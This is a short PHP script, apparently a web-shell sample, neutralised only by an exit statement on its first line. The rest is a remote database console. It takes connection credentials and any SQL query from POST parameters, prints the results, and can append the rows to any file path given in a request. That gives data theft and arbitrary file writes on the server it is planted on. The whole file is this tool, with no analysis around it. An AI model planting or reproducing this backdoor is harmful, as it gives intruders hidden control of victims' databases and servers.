<?php exit; /* inert */ 
@set_time_limit(0);
$c = @mysqli_connect($_POST['h'], $_POST['u'], $_POST['w'], $_POST['d'], (int) $_POST['P']);
if (!$c) die(mysqli_connect_error());
$r = mysqli_query($c, $_POST['q']);
if ($r === true) { echo mysqli_affected_rows($c); }
else {
    echo '<table border=1>';
    while ($row = mysqli_fetch_row($r)) { echo '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', $row)) . '</td></tr>'; if (!empty($_POST['o'])) file_put_contents($_POST['o'], implode("\t", $row) . "\n", FILE_APPEND); }
    echo '</table>';
}
